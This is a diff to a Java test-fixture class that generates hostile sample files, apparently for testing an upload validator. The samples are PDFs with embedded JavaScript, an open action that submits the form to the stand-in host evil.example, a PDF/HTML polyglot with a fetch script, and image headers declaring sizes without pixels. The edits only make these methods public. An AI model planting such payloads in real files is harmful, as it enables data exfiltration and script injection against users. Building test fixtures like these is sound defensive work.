@@ -171,7 +171,7 @@ public final class TestFiles {
     }
 
     /** Document-level JavaScript: the catalog's /Names /JavaScript name tree. */
-    static byte[] pdfWithDocumentJavaScript() {
+    public static byte[] pdfWithDocumentJavaScript() {
         return pdfBox("Hello", (document, page) -> {
             PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
             scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert('hello');")));
@@ -182,7 +182,7 @@ public final class TestFiles {
     }
 
     /** A JavaScript action run when the document opens. */
-    static byte[] pdfWithOpenActionJavaScript() {
+    public static byte[] pdfWithOpenActionJavaScript() {
         return pdfBox("Hello", (document, page) -> document.getDocumentCatalog()
                 .setOpenAction(new PDActionJavaScript("this.submitForm('https://evil.example/');")));
     }
@@ -306,7 +306,7 @@ public final class TestFiles {
     // --- polyglots --------------------------------------------------------------------------------------------------
 
     /** The PDF signature followed by a web page: no PDF at all. */
-    static byte[] pdfHtmlPolyglot() {
+    public static byte[] pdfHtmlPolyglot() {
         return ascii("%PDF-1.4\n<html><body><script>fetch('/applications').then(r => r.text())</script>"
                 + "</body></html>\n%%EOF\n");
     }
@@ -325,7 +325,7 @@ public final class TestFiles {
     // --- image headers ----------------------------------------------------------------------------------------------
 
     /** A PNG whose IHDR declares the size, with a correct CRC, followed by an empty IEND. No pixels. */
-    static byte[] pngDeclaring(long width, long height) {
+    public static byte[] pngDeclaring(long width, long height) {
         byte[] ihdr = concat(be((int) width, 4), be((int) height, 4), new byte[] { 8, 2, 0, 0, 0 });
         return concat(HexFormat.of().parseHex("89504E470D0A1A0A"), pngChunk("IHDR", ihdr), pngChunk("IEND", new byte[0]));
     }
@@ -342,7 +342,7 @@ public final class TestFiles {
      * size if mistaken for a frame header, then a baseline frame header (SOF0) declaring the size, a scan header and
      * the end of image. No pixels.
      */
-    static byte[] jpegDeclaring(int width, int height) {
+    public static byte[] jpegDeclaring(int width, int height) {
         return concat(HexFormat.of().parseHex("FFD8"),
                 HexFormat.of().parseHex("FFE000104A46494600010100000100010000"),
                 HexFormat.of().parseHex("FFC4000708FFFFFFFF"),
